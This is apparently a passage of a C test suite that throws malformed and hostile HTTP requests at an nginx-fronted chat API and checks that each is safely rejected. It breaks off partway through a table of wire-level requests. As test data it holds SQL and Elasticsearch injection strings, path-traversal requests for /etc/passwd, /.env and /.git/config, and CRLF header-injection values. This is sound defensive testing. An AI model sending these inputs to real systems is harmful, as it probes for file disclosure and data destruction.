/*
 * test_barrage.c - hostile input through nginx, the way an attacker
 * would send it: malformed and deeply nested JSON, huge strings, invalid
 * UTF-8, NUL bytes, wrong types, SQL and Elasticsearch injection, path
 * traversal and encoded slashes, overflowing numbers, odd methods,
 * headers and request lines, truncated, chunked and oversized bodies,
 * wrong Content-Length.  Requests go over a raw TCP socket
 * (support_barrage.h), since libcurl would repair many of them.
 *
 * Every row must get a 4xx (the contract's exact code where it names
 * one), never a 5xx, a hang or a dropped connection, and the contract's
 * JSON error body {"error", "message"} with the code of its status; a 405
 * from the programs must carry Allow; no response may carry a database id
 * in its body or headers (nor Location, Link or Set-Cookie); afterwards
 * the stored application, chat and messages are exactly as before, no
 * number was used up, and the stack still answers /health.
 *
 * Rows that nginx rejects before it picks a location (a request line or
 * header it cannot parse, TRACE, CONNECT, an unknown Transfer-Encoding,
 * HTTP/2.0 on a plain connection) are EXP_NGINX: the same checks, except
 * that nginx cannot know the route's Allow.  They need the server-level
 * error pages of nginx/chat-default.conf; without them nginx answers with
 * its HTML pages, and with 501 and 505.  Rows whose client gives up half-way
 * (a truncated request, sending side shut) may also be answered by a
 * close without a response: the client has left, nginx logs a 400.
 *
 * The other tests: injection strings that are valid input are stored and
 * given back byte for byte, and searched as plain words (an oracle of the
 * contract's matching rules says what each query must find); tokens come
 * from getrandom(2) alone and look random over 1000 samples.
 */
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

#include <criterion/criterion.h>
#include <criterion/logging.h>

#include "buf.h"
#include "client.h"
#include "support_barrage.h"
#include "token.h"
#include "xalloc.h"

#define MIB (1024 * 1024)
/* Just under the body limit (400 KiB, ../shared/API.md 413): read and judged. */
#define NEAR_LIMIT (390 * 1024)
#define DEEP 10000
#define TIMEOUT_MS 15000

TestSuite(barrage, .timeout = 600);

/* ------------------------------------------------------------ the rows */

enum expect {
	EXP_APP,	/* the contract's JSON error body, from the program
			 * or from nginx's API locations */
	EXP_NGINX,	/* nginx's own rejection: any body */
	EXP_TRUNC,	/* the client gave up: a 4xx or a silent close */
};

struct row {
	char *name;
	struct chat_buf req;
	unsigned flags;
	int status;		/* expected status; 0: any 4xx */
	enum expect exp;
	const char *allow;	/* exact Allow of a 405, when known */
};

static struct row *rows;
static size_t nrows, caprows;
static char token[CHAT_TOKEN_LEN + 64];

/* Replace every "{A}", "{C}", "{M}" and "{M1}" in s[0..len). */
static void expand(struct chat_buf *out, const char *s, size_t len)
{
	static const char *const keys[] = { "{A}", "{C}", "{M}", "{M1}",
					    "{T}" };
	char *a = http_path("/applications/%s", token);
	char *c = http_path("%s/chats/1", a);
	char *m = http_path("%s/messages", c);
	char *m1 = http_path("%s/1", m);
	const char *vals[5] = { a, c, m, m1, token };

	for (size_t i = 0; i < len;) {
		size_t k;

		for (k = 0; k < 5; k++) {
			size_t kl = strlen(keys[k]);

			if (len - i >= kl && memcmp(s + i, keys[k], kl) == 0) {
				chat_buf_adds(out, vals[k]);
				i += kl;
				break;
			}
		}
		if (k == 5)
			chat_buf_addch(out, s[i++]);
	}
	free(a);
	free(c);
	free(m);
	free(m1);
}

static struct row *new_row(enum expect exp, int status, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));

static struct row *new_row(enum expect exp, int status, const char *fmt, ...)
{
	struct chat_buf name;
	struct row *r;
	va_list ap;

	if (nrows == caprows) {
		caprows = caprows ? caprows * 2 : 256;
		rows = xrealloc(rows, caprows * sizeof(*rows));
	}
	r = &rows[nrows++];
	memset(r, 0, sizeof(*r));
	chat_buf_init(&r->req);
	chat_buf_init(&name);
	va_start(ap, fmt);
	chat_buf_vaddf(&name, fmt, ap);
	va_end(ap);
	r->name = chat_buf_detach(&name, NULL);
	r->exp = exp;
	r->status = status;
	return r;
}

/*
 * A request built by raw_build; `target` and `extra` are expanded.
 * `body` NULL means no body and no Content-Length.
 */
static struct row *add_req(enum expect exp, int status, const char *label,
			   const char *method, const char *target,
			   const char *body, size_t len, const char *extra)
{
	struct chat_buf t, e;
	struct row *r;

	chat_buf_init(&t);
	chat_buf_init(&e);
	expand(&t, target, strlen(target));
	if (extra)
		expand(&e, extra, strlen(extra));
	r = new_row(exp, status, "%s %.60s%s [%s]", method, target,
		    strlen(target) > 60 ? "..." : "", label);
	raw_build(&r->req, method, t.data, body, len, extra ? e.data : NULL);
	if (strcmp(method, "HEAD") == 0)
		r->flags |= RAW_HEAD;
	chat_buf_release(&t);
	chat_buf_release(&e);
	return r;
}

/* A request given byte for byte (expanded). */
static struct row *add_raw(enum expect exp, int status, unsigned flags,
			   const char *label, const char *raw, size_t len)
{
	struct row *r = new_row(exp, status, "raw [%s]", label);

	expand(&r->req, raw, len);
	r->flags = flags;
	return r;
}

static char *repeat(const char *unit, size_t n)
{
	struct chat_buf b;
	size_t ul = strlen(unit);

	chat_buf_init(&b);
	chat_buf_grow(&b, ul * n);
	for (size_t i = 0; i < n; i++)
		chat_buf_add(&b, unit, ul);
	return chat_buf_detach(&b, NULL);
}

/* prefix + unit*n + suffix */
static char *wrap(const char *prefix, const char *unit, size_t n,
		  const char *suffix)
{
	char *mid = repeat(unit, n);
	struct chat_buf b;

	chat_buf_init(&b);
	chat_buf_adds(&b, prefix);
	chat_buf_adds(&b, mid);
	chat_buf_adds(&b, suffix);
	free(mid);
	return chat_buf_detach(&b, NULL);
}

/* A JSON body: the label and bytes (which may hold NULs). */
struct body {
	const char *label;
	char *s;
	size_t len;
};

static struct body *bodies;
static size_t nbodies, capbodies;

static void body_n(const char *label, const char *s, size_t len)
{
	if (nbodies == capbodies) {
		capbodies = capbodies ? capbodies * 2 : 64;
		bodies = xrealloc(bodies, capbodies * sizeof(*bodies));
	}
	bodies[nbodies].label = label;
	bodies[nbodies].s = xmalloc(len + 1);
	memcpy(bodies[nbodies].s, s, len);
	bodies[nbodies].s[len] = '\0';
	bodies[nbodies].len = len;
	nbodies++;
}

/* A string literal that holds NULs: all of it but the final one. */
#define BODY_LIT(label, lit) body_n(label, lit, sizeof(lit) - 1)

static void body_s(const char *label, const char *s)
{
	body_n(label, s, strlen(s));
}

static void body_own(const char *label, char *s)
{
	body_s(label, s);
	free(s);
}

static void bodies_reset(void)
{
	for (size_t i = 0; i < nbodies; i++)
		free(bodies[i].s);
	nbodies = 0;
}

/* The routes that read a body, and the field each one reads. */
struct target {
	const char *method, *path;
	char field;	/* 'n' name, 'b' body, 0 none */
	bool required;
};

static const struct target targets[] = {
	{ "POST", "/applications", 'n', true },
	{ "PATCH", "{A}", 'n', false },
	{ "PUT", "{A}", 'n', true },
	{ "POST", "{A}/chats", 0, false },
	{ "POST", "{M}", 'b', true },
	{ "PATCH", "{M1}", 'b', false },
	{ "PUT", "{M1}", 'b', true },
};
#define NTARGETS (sizeof(targets) / sizeof(targets[0]))

/* Every body collected so far, to every route that reads `field`. */
static void bodies_to(int status, char field, bool required_only)
{
	for (size_t t = 0; t < NTARGETS; t++) {
		if (field && targets[t].field != field)
			continue;
		if (required_only && !targets[t].required)
			continue;
		for (size_t i = 0; i < nbodies; i++)
			add_req(EXP_APP, status, bodies[i].label,
				targets[t].method, targets[t].path,
				bodies[i].s, bodies[i].len, NULL);
	}
	bodies_reset();
}

/* Not JSON, or not an object: 400 on every route that reads a body. */
static void rows_bad_json(void)
{
	static const char *const plain[] = {
		"{", "}", "{\"name\":}", "{\"name\":\"x\",}", "{'name':'x'}",
		"{name:\"x\"}", "{\"name\":\"x\"} {\"name\":\"y\"}",
		"{\"name\":\"x\"}garbage", "{\"name\":\"x\" /* c */}",
		"// c\n{\"name\":\"x\"}", "{\"name\":NaN}",
		"{\"name\":Infinity}", "{\"name\":-Infinity}",
		"{\"name\":01}", "{\"name\":1.}", "{\"name\":.5}",
		"{\"name\":+1}", "{\"name\":0x10}", "{\"name\":\"\x01\"}",
		"{\"name\":\"a\tb\"}", "{\"name\":\"\\q\"}",
		"{\"name\":\"\\u12\"}", "{\"name\":\"\\uZZZZ\"}",
		"{\"name\":\"abc", "{\"name\":tru}", "{\"name\":nul}",
		"{\"name\":True}", "\xef\xbb\xbf{\"name\":\"x\"}",
		"{\"name\":\"x\"}\xff", "{\xff\"name\":\"x\"}",
		"{\"a\":[}", "{\"a\" \"b\"}", "{,}", "{\"name\":\"x\"",
		"[", "{\"name\":\"\\ud800", "{\"a\":1,,\"b\":2}",
		"{\"name\":\"x\"}}", "{\"name\":-}", "{\"name\":1e}",
		"{\"name\":1e+}", "{\"name\":--1}", "{\"\":}",
		"{\"name\":\"x\"}\n]", "{\"body\":\"x\"\"name\":\"y\"}",
		/* injection that is not JSON */
		"name=x' OR '1'='1", "'; DROP TABLE applications; --",
		"{\"query\":{\"match_all\":{}}}; DROP TABLE messages",
		"<?xml version=\"1.0\"?><name>x</name>",
		"--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--b--",
		/* not an object */
		"null", "[]", "[{\"name\":\"x\",\"body\":\"x\"}]", "1", "-0",
		"1e999", "\"name\"", "true", "false", "\"\\u0000\"",
		"123456789012345678901234567890", " [ ] ",
		"-123456789012345678901234567890e-99999",
	};

	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
		body_s(plain[i], plain[i]);
	BODY_LIT("raw NUL in a string",
		 "{\"name\":\"a\0b\",\"body\":\"a\0b\"}");
	BODY_LIT("NUL before", "\0{\"name\":\"x\"}");
	BODY_LIT("NUL after", "{\"name\":\"x\"}\0");
	BODY_LIT("lone NUL", "\0");
	body_own("arrays nested 10000 deep", wrap("", "[", DEEP, ""));
	{
		char *open = repeat("[", DEEP), *close = repeat("]", DEEP);
		struct chat_buf b;

		chat_buf_init(&b);
		chat_buf_adds(&b, open);
		chat_buf_adds(&b, close);
		body_own("balanced arrays 10000 deep", chat_buf_detach(&b, NULL));
		chat_buf_init(&b);
		chat_buf_addf(&b, "{\"name\":\"x\",\"body\":\"x\",\"n\":%s1%s}",
			      open, close + 1);
		body_own("name and body, then 10000 deep, one ']' short",
			 chat_buf_detach(&b, NULL));
		free(open);
		free(close);
	}
	body_own("390 KiB of '{'", repeat("{", NEAR_LIMIT));
	body_own("100 KiB top-level string", wrap("\"", "a", 100 * 1024, "\""));
	body_own("390 KiB of commas", wrap("{\"a\":[1", ",", NEAR_LIMIT, "]}"));
	bodies_to(400, 0, false);
}

/* Values that are not a valid name or body: 422 where that field is read. */
static void rows_bad_field(char field)
{
	const char *f = field == 'n' ? "name" : "body";
	static const char *const values[] = {
		"1", "1.5", "-1", "1e999", "123456789012345678901234567890",
		"null", "true", "false", "[]", "{}", "[\"x\"]",
		"{\"x\":\"y\"}", "\"\"", "\"\\u0000\"", "\"a\\u0000b\"",
		"\"\\ud800\"", "\"\\udfff\"", "\"a\\ud83dx\"",
		"\"\\udc00\\ud800\"", "\"\\ud800\\u0041\"",
		/* invalid UTF-8, raw */
		"\"\xff\"", "\"\xc0\xaf\"", "\"\xe0\x80\xaf\"",
		"\"\xf0\x80\x80\xaf\"", "\"\xed\xa0\x80\"",
		"\"\xf4\x90\x80\x80\"", "\"\xf8\x88\x80\x80\x80\"", "\"\xc3\"",
		"\"a\x80z\"", "\"\xfe\xff\"", "\"\xc1\xbf\"",
		"\"\xe0\x9f\xbf\"", "\"\xf5\x80\x80\x80\"",
		/* injection made invalid */
		"\"'; DROP TABLE applications; --\\u0000\"",
		"\"Robert'); DROP TABLE students;--\xff\"",
		"\"{\\\"query\\\":{\\\"match_all\\\":{}}}\\u0000\"",
		"{\"$ne\":null}", "[\"' OR 1=1 --\"]",
		"{\"script\":\"ctx._source.body='x'\"}",
	};
	struct chat_buf b;

	for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
		chat_buf_init(&b);
		chat_buf_addf(&b, "{\"%s\":%s}", f, values[i]);
		body_own(values[i], chat_buf_detach(&b, NULL));
	}
	if (field == 'n') {
		body_own("256 characters", wrap("{\"name\":\"", "a", 256, "\"}"));
		body_own("256 x e-acute", wrap("{\"name\":\"", "\xc3\xa9", 256,
					       "\"}"));
		body_own("256 emoji", wrap("{\"name\":\"", "\xf0\x9f\x98\x80",
					   256, "\"}"));
		body_own("256 x \\u00e9", wrap("{\"name\":\"", "\\u00e9", 256,
					       "\"}"));
		body_own("390 KiB name", wrap("{\"name\":\"", "a", NEAR_LIMIT,
					    "\"}"));
		body_own("SQL injection, 300 characters",
			 wrap("{\"name\":\"", "' OR 1=1 -- ", 25, "\"}"));
	} else {
		body_own("65536 bytes", wrap("{\"body\":\"", "a", 65536, "\"}"));
		body_own("65536 bytes of emoji",
			 wrap("{\"body\":\"", "\xf0\x9f\x98\x80", 16384, "\"}"));
		body_own("65535 bytes then one escape",
			 wrap("{\"body\":\"", "a", 65535, "\\n\"}"));
		body_own("390 KiB body", wrap("{\"body\":\"", "b", NEAR_LIMIT,
					    "\"}"));
		body_own("ES injection, 70000 bytes",
			 wrap("{\"body\":\"", "\\\"}},{\\\"match_all\\\":{}}",
			      3500, "\"}"));
	}
	{
		/* Of the wrong type however deep: read as its kind alone. */
		char *open = repeat("[", DEEP), *close = repeat("]", DEEP);

		chat_buf_init(&b);
		chat_buf_addf(&b, "{\"%s\":%s1%s}", f, open, close);
		body_own("the field an array 10000 deep",
			 chat_buf_detach(&b, NULL));
		free(open);
		free(close);
	}
	bodies_to(422, field, false);

	/*
	 * Missing: only where the field is required.  Unknown fields are
	 * ignored, whatever their size or depth.
	 */
	if (field == 'n') {
		body_s("{}", "{}");
		body_s("Name", "{\"Name\":\"x\"}");
		body_s("NAME", "{\"NAME\":\"x\"}");
		body_s("name with a space", "{\"name \":\"x\"}");
		body_s("body instead of name", "{\"body\":\"x\"}");
		body_s("only unknown fields",
		       "{\"token\":\"x\",\"id\":1,\"chats_count\":5}");
	} else {
		body_s("{}", "{}");
		body_s("Body", "{\"Body\":\"x\"}");
		body_s("name instead of body", "{\"name\":\"x\"}");
		body_s("number instead", "{\"number\":1}");
	}
	{
		char *open = repeat("{\"a\":", DEEP), *close = repeat("}", DEEP);

		chat_buf_init(&b);
		chat_buf_addf(&b, "%s1%s", open, close);
		body_own("objects nested 10000 deep", chat_buf_detach(&b, NULL));
		free(open);
		free(close);
	}
	body_own("an unknown field of 390 KiB of commas",
		 wrap("{\"a\":[1", ",1", NEAR_LIMIT / 2, "]}"));
	body_s("empty body", "");
	body_s("only whitespace", " \t\r\n ");
	body_own("390 KiB of whitespace", repeat(" ", NEAR_LIMIT));
	bodies_to(422, field, true);
}

/* Paths that name nothing: tokens, numbers, traversal, encoded slashes. */
static void rows_paths(void)
{
	static const char *const tokens[] = {
		"abcdefghijklmnopqrstu",			/* 21 */
		"abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ-_a",
		"{T}x", "{T}%20", "{T}+", "%20{T}", "{T}.", "{T}~",
		"'%20OR%20'1'='1", "1'%20OR%201=1--",
		"%27%3B%20DROP%20TABLE%20applications%3B%20--",
		"abcdefghijklmnopqrstuv'%20OR%20''='", "*", "%2A",
		"{T};x=1", "{T}%3Bx", "{T}#frag", "{T}%23", "{T}%C3%A9",
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
		"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9",
		"{T}%0d%0aSet-Cookie:%20x=1", "{T}%0aX-Id:%201",
		"%7B%22query%22%3A%7B%22match_all%22%3A%7B%7D%7D%7D",
		"_search", "_all", "messages",
		"{T}%2f",
	};
	static const char *const numbers[] = {
		"0", "-1", "+1", "1.5", "0x1", "1e3", "01", "00", "%201",
		"1%20", "abc", "1234567890123456789012345", "4294967296",
		"18446744073709551616", "99999999999999999999999", "%31",
		"1;DROP%20TABLE%20chats", "1%20OR%201=1", "1'", "%D9%A1",
		"NaN", "Infinity", "-0", "1,2",
	};
	static const char *const others[] = {
		"/applications/", "/applications//{T}", "//applications/{T}",
		"{A}//chats", "{A}/", "{A}/chats/", "{C}/", "{M}/", "{M1}/",
		"{A}%2Fchats", "{A}%2fchats%2f1", "{C}%2Fmessages",
		"/applications%2F{T}", "{A}/chatsx", "{A}/CHATS",
		"{C}/MESSAGES", "{M}/SEARCH?q=x", "{M1}/extra",
		"{M1}/../../../../etc/passwd", "{A}/../../etc/passwd",
		"{M}/..%2F..%2F..%2F..%2F", "/Applications/{T}",
		"/APPLICATIONS", "/applications.json", "/applications/{T}.json",
		"/health/x", "/health%2F..", "/healthz", "/.env", "/.git/config",
		"/cgi-bin/applications", "/index.php?id=1", "/etc/passwd",
		/* nginx's internal error pages, asked for directly */
		"/.chat-error/400", "/.chat-error/414", "/.chat-error/405",
		"/.chat-error/404", "/_chat_error/400",
	};
	static const char *const climb[] = {
		"/applications/..%2F..%2Fetc%2Fpasswd",
		"/applications/..%2F..%2F..%2F..%2Fetc%2Fpasswd/chats",
		"/applications/%2e%2e/%2e%2e/etc/passwd",
		"/applications/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"/applications/{T}%2F..%2F..%2F..%2Fhealth",
		"/api-docs/../../etc/passwd", "/api-docs/..%2F..%2Fetc%2Fpasswd",
		"{M}/..%2F..%2F..%2F..%2F..%2F..%2F..%2F",
		"/applications/%2E%2E/%2E%2E/%2E%2E/",
	};
	char buf[512];

	for (size_t i = 0; i < sizeof(tokens) / sizeof(tokens[0]); i++) {
		snprintf(buf, sizeof(buf), "/applications/%s", tokens[i]);
		add_req(EXP_APP, 404, "bad token", "GET", buf, NULL, 0, NULL);
		snprintf(buf, sizeof(buf), "/applications/%s/chats", tokens[i]);
		add_req(EXP_APP, 404, "bad token", "POST", buf, "{}", 2, NULL);
	}
	for (size_t i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++) {
		snprintf(buf, sizeof(buf), "{A}/chats/%s", numbers[i]);
		add_req(EXP_APP, 404, "bad number", "GET", buf, NULL, 0, NULL);
		add_req(EXP_APP, 404, "bad number", "DELETE", buf, NULL, 0,
			NULL);
		snprintf(buf, sizeof(buf), "{A}/chats/%s/messages", numbers[i]);
		add_req(EXP_APP, 404, "bad number", "POST", buf,
			"{\"body\":\"zzbarrage\"}", 20, NULL);
		snprintf(buf, sizeof(buf), "{M}/%s", numbers[i]);
		add_req(EXP_APP, 404, "bad number", "GET", buf, NULL, 0, NULL);
		add_req(EXP_APP, 404, "bad number", "PATCH", buf,
			"{\"body\":\"zzbarrage\"}", 20, NULL);
		add_req(EXP_APP, 404, "bad number", "DELETE", buf, NULL, 0,
			NULL);
	}
	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++)
		add_req(EXP_APP, 404, "no such route", "GET", others[i], NULL,
			0, NULL);
	/*
	 * Traversal that climbs out of the root once decoded: nginx's 400.
	 * What stays inside is a 404 above.
	 */
	for (size_t i = 0; i < sizeof(climb) / sizeof(climb[0]); i++)
		add_req(EXP_NGINX, 400, "traversal", "GET", climb[i], NULL, 0,
			NULL);
	/* Long tokens: 1000 fits the request line; 10000 is nginx's 414. */
	{
		char *t = repeat("a", 1000), *p;

		p = http_path("/applications/%s", t);
		add_req(EXP_APP, 404, "1000-character token", "GET", p, NULL,
			0, NULL);
		free(p);
		free(t);
		t = repeat("a", 10000);
		p = http_path("/applications/%s", t);
		add_req(EXP_NGINX, 0, "10000-character token", "GET", p,
			NULL, 0, NULL);
		free(p);
		free(t);
	}
}

/* Query parameters: limit, after, q. */
static void rows_query(void)
{
	static const char *const bad_limit[] = {
		"0", "1001", "-1", "1.5", "1e3", "abc", "", "10a", "0x10",
		"99999999999999999999", "18446744073709551617", "%00", "1%00",
		"%", "%4", "%zz", "%201", "+1", "01",
		"1;DROP%20TABLE%20messages", "1'%20OR%20'1'='1",
		"4294967296", "%E2%88%9E",
	};
	static const char *const bad_after[] = {
		"-1", "1.5", "abc", "1e3", "", "%00", "0x1", "+1", "01",
		"1%00", "'%20OR%201=1", "00", "%",
	};
	static const char *const lists[] = { "{A}/chats", "{M}" };
	static const char *const bad_q[] = {
		"", "q=", "q", "q=%20", "q=+++", "q=%09%0A%0D", "q=%00",
		"q=a%00b", "q=%", "q=%zz", "q=%e", "q=abc%2", "Q=hello",
		"q[]=x", "qq=x", "q=%C2%A0", "q=%E3%80%80",
	};
	char buf[512];

	for (size_t l = 0; l < 2; l++) {
		for (size_t i = 0; i < sizeof(bad_limit) / sizeof(bad_limit[0]);
		     i++) {
			snprintf(buf, sizeof(buf), "%s?limit=%s", lists[l],
				 bad_limit[i]);
			add_req(EXP_APP, 400, "bad limit", "GET", buf, NULL, 0,
				NULL);
		}
		for (size_t i = 0; i < sizeof(bad_after) / sizeof(bad_after[0]);
		     i++) {
			snprintf(buf, sizeof(buf), "%s?after=%s", lists[l],
				 bad_after[i]);
			add_req(EXP_APP, 400, "bad after", "GET", buf, NULL, 0,
				NULL);
		}
		snprintf(buf, sizeof(buf), "%s?limit", lists[l]);
		add_req(EXP_APP, 400, "limit without value", "GET", buf, NULL,
			0, NULL);
	}
	for (size_t i = 0; i < sizeof(bad_q) / sizeof(bad_q[0]); i++) {
		snprintf(buf, sizeof(buf), "{M}/search?%s", bad_q[i]);
		add_req(EXP_APP, 400, "bad q", "GET", buf, NULL, 0, NULL);
	}
	for (size_t i = 0; i < 8; i++) {
		snprintf(buf, sizeof(buf), "{M}/search?q=hello&limit=%s",
			 bad_limit[i]);
		add_req(EXP_APP, 400, "search, bad limit", "GET", buf, NULL, 0,
			NULL);
	}
	{
		char *q = repeat("%00", 2000), *p = http_path("{M}/search?q=%s", q);

		add_req(EXP_APP, 400, "2000 encoded NULs", "GET", p, NULL, 0,
			NULL);
		free(p);
		free(q);
	}
}

/* Methods that no route takes. */
static void rows_methods(void)
{
	static const struct {
		const char *path, *allow;
	} routes[] = {
		{ "/applications", "POST" },
		{ "{A}", "GET, PATCH, PUT" },
		{ "{A}/chats", "GET, POST" },
		{ "{C}", "GET, DELETE" },
		{ "{M}", "GET, POST" },
		{ "{M1}", "GET, PATCH, PUT, DELETE" },
		{ "{M}/search?q=x", "GET" },
		{ "{M}/live", "GET" },
		{ "/health", "GET" },
	};
	static const char *const odd[] = { "HEAD", "OPTIONS", "FOO",
					   "PROPFIND", "M-SEARCH", "PURGE",
					   "GETX", "DELETE_ALL" };
	static const struct {
		const char *method, *path, *allow;
	} wrong[] = {
		{ "GET", "/applications", "POST" },
		{ "PUT", "/applications", "POST" },
		{ "PATCH", "/applications", "POST" },
		{ "DELETE", "/applications", "POST" },
		{ "DELETE", "{A}", "GET, PATCH, PUT" },
		{ "POST", "{A}", "GET, PATCH, PUT" },
		{ "PUT", "{A}/chats", NULL },
		{ "PATCH", "{A}/chats", NULL },
		{ "DELETE", "{A}/chats", NULL },
		{ "POST", "{C}", NULL },
		{ "PUT", "{C}", NULL },
		{ "PATCH", "{C}", NULL },
		{ "PUT", "{M}", NULL },
		{ "PATCH", "{M}", NULL },
		{ "DELETE", "{M}", NULL },
		{ "POST", "{M1}", NULL },
		{ "POST", "{M}/search?q=x", "GET" },
		{ "DELETE", "{M}/search?q=x", "GET" },
		{ "POST", "/health", "GET" },
		{ "DELETE", "/health", "GET" },
	};
	static const char both[] =
		"{\"name\":\"zzbarrage\",\"body\":\"zzbarrage\"}";

	for (size_t r = 0; r < sizeof(routes) / sizeof(routes[0]); r++) {
		for (size_t m = 0; m < sizeof(odd) / sizeof(odd[0]); m++) {
			struct row *row = add_req(EXP_APP, 405, "odd method",
						  odd[m], routes[r].path, NULL,
						  0, NULL);

			row->allow = routes[r].allow;
		}
		/* Refused by nginx before any location: the same Allow. */
		add_req(EXP_NGINX, 405, "TRACE", "TRACE", routes[r].path, NULL,
			0, NULL)->allow = routes[r].allow;
		add_req(EXP_NGINX, 0, "CONNECT", "CONNECT", routes[r].path,
			NULL, 0, NULL)->allow = routes[r].allow;
	}
	/* Refused by nginx on no route: the contract's 404. */
	add_req(EXP_NGINX, 404, "TRACE, no route", "TRACE", "/nowhere", NULL,
		0, NULL);
	add_req(EXP_NGINX, 404, "TRACE, no route under a token", "TRACE",
		"{A}/nowhere", NULL, 0, NULL);
	for (size_t i = 0; i < sizeof(wrong) / sizeof(wrong[0]); i++) {
		struct row *row = add_req(EXP_APP, 405, "wrong method",
					  wrong[i].method, wrong[i].path,
					  strcmp(wrong[i].method, "GET") ?
					  both : NULL, strlen(both), NULL);

		row->allow = wrong[i].allow;
	}
}

#define BASE405 "GET /applications HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
#define BADPOST "POST /applications HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"

/* Odd headers, request lines and body framing. */
static void rows_wire(void)
{
	static const struct {
		enum expect exp;
		int status;
		const char *label, *raw;
	} lines[] = {
		/* request lines */
		{ EXP_NGINX, 400, "garbage", "GARBAGE\r\n\r\n" },
		{ EXP_NGINX, 400, "method only", "GET\r\n\r\n" },
		{ EXP_NGINX, 400, "extra word", "GET /applications HTTP/1.1 x\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "bad protocol", "GET /applications FOO/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "lowercase method", "get /applications HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "NUL in method", "G\0T /applications HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "NUL in path", "GET /applications/\0 HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "relative path", "GET applications HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "bad escape", "GET /%zz HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "%00 in path", "GET /applications/%00 HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "above the root", "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "above the root, encoded", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 400, "CR in path", "GET /applications/\r HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 0, "HTTP/9.9", "GET /applications HTTP/9.9\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 0, "HTTP/1.1111", "GET /applications HTTP/1.1111\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 0, "HTTP/0.1", "GET /applications HTTP/0.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 0, "asterisk", "GET * HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_NGINX, 0, "long method", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA /applications HTTP/1.1\r\nHost: a\r\n\r\n" },
		{ EXP_APP, 405, "absolute URI", "GET http://evil.example/applications HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" },
		{ EXP_APP, 405, "leading empty lines", "\r\n\r\nGET /applications HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" },
		{ EXP_APP, 405, "bare LF line ends", "GET /applications HTTP/1.1\nHost: a\nConnection: close\n\n" },
		{ EXP_APP, 404, "raw 0xff in path", "GET /applications/\xff\xfe HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" },
		{ EXP_APP, 404, "raw UTF-8 token", "GET /applications/\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n" },
		{ EXP_APP, 400, "HTTP/1.0 without Host", "POST /applications HTTP/1.0\r\nContent-Length: 1\r\n\r\n{" },
		/* headers */
		{ EXP_NGINX, 400, "no Host", "GET /applications HTTP/1.1\r\nConnection: close\r\n\r\n" },
		{ EXP_NGINX, 400, "two Hosts", BASE405 "Host: evil\r\n\r\n" },
		{ EXP_NGINX, 400, "Host with a space", "GET /applications HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n" },
		{ EXP_NGINX, 400, "Host ..", "GET /applications HTTP/1.1\r\nHost: ../../etc\r\nConnection: close\r\n\r\n" },
		{ EXP_APP, 405, "header without colon (ignored)", BASE405 "BadHeader\r\n\r\n" },
		{ EXP_NGINX, 400, "NUL in a header", BASE405 "X-A: a\0b\r\n\r\n" },
		{ EXP_NGINX, 400, "CR in a header", BASE405 "X-A: a\rb\r\n\r\n" },
		{ EXP_NGINX, 400, "folded header", BASE405 "X-A: a\r\n b\r\n\r\n" },
		{ EXP_NGINX, 400, "header name with a space", BASE405 "Bad Header: x\r\n\r\n" },
		{ EXP_NGINX, 400, "header name with odd bytes", BASE405 "X-\xff\x01: x\r\n\r\n" },
		{ EXP_APP, 405, "value with raw 0xff", BASE405 "X-A: \xff\xfe\r\n\r\n" },
		{ EXP_APP, 405, "method override", BASE405 "X-HTTP-Method-Override: POST\r\nX-Method-Override: POST\r\n\r\n" },
		{ EXP_APP, 405, "forwarded for garbage", BASE405 "X-Forwarded-For: ' OR 1=1 --, <script>\r\nForwarded: for=\"[::1]\";proto=javascript\r\n\r\n" },
		{ EXP_APP, 405, "range", BASE405 "Range: bytes=0-1,-1,99999999999999999999-\r\n\r\n" },
		{ EXP_APP, 405, "Expect: nonsense", BASE405 "Expect: nonsense\r\n\r\n" },
